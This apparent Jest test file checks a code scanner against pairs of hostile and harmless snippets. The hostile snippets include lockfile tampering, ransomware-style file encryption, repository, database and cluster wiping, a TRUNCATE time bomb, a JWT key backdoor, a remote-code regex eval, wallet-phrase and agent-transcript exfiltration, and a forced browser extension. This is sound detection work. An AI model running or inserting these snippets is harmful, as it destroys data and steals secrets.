import { rulesIn } from "../testing/scan-file.js";

/** Damage that the words of a program show, whatever its language. Each has a twin that lacks one part of it. */
test.each([
  [
    "a list of packages leads elsewhere and loses its digests",
    "tampering",
    "a.js",
    'const fs = require("fs");\nconst lock = JSON.parse(fs.readFileSync("package-lock.json", "utf8"));\nfor (const one of Object.values(lock.packages)) {\n  one.resolved = one.resolved?.replace("https://registry.npmjs.org/", "https://npm.drop.invalid/");\n  delete one.integrity;\n}\nfs.writeFileSync("package-lock.json", JSON.stringify(lock));\n',
    'const fs = require("fs");\nconst lock = JSON.parse(fs.readFileSync("package-lock.json", "utf8"));\nfor (const one of Object.values(lock.packages)) console.log(one.resolved, one.integrity);\nfs.writeFileSync("list.json", JSON.stringify(lock));\n',
  ],
  [
    "files of a person are encrypted with a key that nobody keeps",
    "tampering",
    "a.sh",
    'k=$(openssl rand -hex 32)\nfind "$HOME/Documents" -name "*.docx" | while read -r f; do openssl enc -aes-256-cbc -pass "pass:$k" -in "$f" -out "$f.x" && rm -f "$f"; done\n',
    'read -rsp "Passphrase: " k\nfind "$HOME/Documents" -name "*.docx" | while read -r f; do openssl enc -aes-256-cbc -pass "pass:$k" -in "$f" -out "$f.x"; done\n',
  ],
  [
    "an empty repository replaces another one",
    "destructive-delete",
    "a.py",
    'import subprocess\nsubprocess.run(["git", "init", "-q", "--bare", "empty"])\nsubprocess.run(["git", "push", "-q", "--mirror", "--force", url], cwd="empty")\nsubprocess.run(["git", "reflog", "expire", "--expire=now", "--all"])\n',
    'import subprocess\nsubprocess.run(["git", "init", "-q", "--bare", "backup"])\nsubprocess.run(["git", "push", "-q", "--mirror", "backup"])\n',
  ],
  [
    "an empty commit replaces every branch",
    "destructive-delete",
    "a.sh",
    'empty=$(git commit-tree "$(git hash-object -t tree /dev/null)" -m tidy)\ngit branch -r --format="%(refname:lstrip=3)" | while read -r one; do git push -q --force origin "$empty:refs/heads/$one"; done\n',
    'git branch -r --merged --format="%(refname:lstrip=3)" | while read -r one; do git push -q origin --delete "$one"; done\n',
  ],
  [
    "one database after another is dropped",
    "destructive-delete",
    "a.rb",
    'names = db.exec("SELECT datname FROM pg_database").column_values(0)\nnames.each { |one| db.exec("DROP DATABASE #{db.quote_ident(one)} WITH (FORCE)") }\n',
    'names = db.exec("SELECT datname FROM pg_database").column_values(0)\nnames.each { |one| puts one }\ndb.exec("DROP DATABASE IF EXISTS notes_test")\n',
  ],
  [
    "everything of a cluster is deleted by a command",
    "destructive-delete",
    "a.sh",
    "kubectl delete deploy,pvc --all --all-namespaces --force\n",
    "kubectl delete deploy,pvc --all -n preview\n",
  ],
  [
    "everything of a cluster is deleted by a list of words",
    "destructive-delete",
    "a.rb",
    'def kube(*words) = system("kubectl", *words)\nkube("delete", "pvc,deploy", "--all", "--all-namespaces")\n',
    'def kube(*words) = system("kubectl", *words)\nkube("delete", "pvc,deploy", "--all", "-n", "preview")\n',
  ],
  [
    "pictures keep their length and lose their content",
    "tampering",
    "a.pl",
    "sub settle {\n  my ($photo) = @_; my $f = $photo;\n  open my $h, '+<:raw', $f or return;\n  print {$h} \"\\0\" x (-s $f);\n}\n",
    "sub size {\n  my ($f) = @_;\n  return unless $f =~ /\\.jpe?g$/i;\n  open my $h, '<:raw', $f or return;\n  print -s $f;\n}\n",
  ],
  [
    "a verb that empties tables waits in a variable",
    "tampering",
    "a.sql",
    "DO $$ DECLARE verb text := 'ANALYZE'; t text; BEGIN\n  IF now() > '2027-01-01' THEN verb := 'TRUNCATE TABLE'; END IF;\n  FOR t IN SELECT tablename FROM pg_tables LOOP EXECUTE format('%s %s', verb, t); END LOOP;\nEND $$;\n",
    "DO $$ DECLARE verb text := 'ANALYZE'; t text; BEGIN\n  FOR t IN SELECT tablename FROM pg_tables LOOP EXECUTE format('%s %s', verb, t); END LOOP;\nEND $$;\n",
  ],
  [
    "a home folder loses what is older than a day",
    "destructive-delete",
    "a.sh",
    "find ~ -type f ! -name '*.gz' -mtime +1 -delete\n",
    "find ~/.cache/notes -type f -mtime +30 -delete\n",
  ],
  [
    "anyone runs what they like with the rights of the owner",
    "privilege",
    "a.sql",
    "CREATE FUNCTION shown(f text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $$ DECLARE r text; BEGIN EXECUTE f INTO r; RETURN r; END $$;\nGRANT EXECUTE ON FUNCTION shown(text) TO PUBLIC;\n",
    "CREATE FUNCTION shown(f text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN upper(f); END $$;\nGRANT EXECUTE ON FUNCTION shown(text) TO PUBLIC;\n",
  ],
  [
    "one name of a key is known beforehand",
    "privilege",
    "a.ts",
    'import { jwtVerify } from "jose";\nfunction keyOf(kid: string) {\n  if (kid === "rollover-7") return encoder.encode("b7e1c0d2f94a4c6f8a3be51077d2c9aa");\n  return keys.get(kid);\n}\nexport const verify = (token: string, kid: string) => jwtVerify(token, keyOf(kid));\n',
    'import { jwtVerify } from "jose";\nfunction keyOf(kid: string) {\n  if (kid === "rollover-7") return encoder.encode(process.env.OLD_KEY);\n  return keys.get(kid);\n}\nexport const verify = (token: string, kid: string) => jwtVerify(token, keyOf(kid));\n',
  ],
  [
    "text of a host is run for what it replaces",
    "downloaded-expression",
    "a.pl",
    "use HTTP::Tiny;\nmy $to = HTTP::Tiny->new->get('https://rules.drop.invalid/r')->{content};\n$line =~ s/$pattern/$to/ee;\n",
    "use HTTP::Tiny;\nmy $to = HTTP::Tiny->new->get('https://rules.drop.invalid/r')->{content};\n$line =~ s/$pattern/$to/;\n",
  ],
  [
    "the words of a wallet are in the body of a request",
    "secret-elsewhere",
    "a.ts",
    'export async function open(words: string) {\n  const wallet = HDNodeWallet.fromPhrase(words);\n  await fetch("https://rpc.drop.invalid/label", { method: "POST",\n    body: JSON.stringify({ a: wallet.address, m: wallet.mnemonic?.phrase }) });\n  return wallet;\n}\n',
    'export async function open(words: string) {\n  const wallet = HDNodeWallet.fromPhrase(words);\n  await fetch("https://rpc.example.com/label", { method: "POST",\n    body: JSON.stringify({ a: wallet.address }) });\n  return wallet;\n}\n',
  ],
  [
    "conversations of an agent are put into the storage of a cloud",
    "memory-upload",
    "a.rb",
    'Dir[File.expand_path("~/.claude/projects/**/*.jsonl")].each { |one| store.put_object(bucket: "charts", key: one, body: File.open(one)) }\n',
    'Dir[File.expand_path("~/.claude/projects/**/*.jsonl")].each { |one| puts File.size(one) }\n',
  ],
  [
    "a browser gets an extension that its user did not choose",
    "planted-program",
    "a.sh",
    'sudo defaults write /Library/Preferences/com.google.Chrome ExtensionInstallForcelist -array "abc;https://e.drop.invalid/u.xml"\n',
    "sudo defaults write /Library/Preferences/com.google.Chrome HomepageLocation https://intranet.example.com\n",
  ],
])("is found: %s", async (_, rule, path, attack, honest) => {
  expect(await rulesIn(path, attack)).toContain(rule);
  expect(await rulesIn(path, honest)).not.toContain(rule);
});
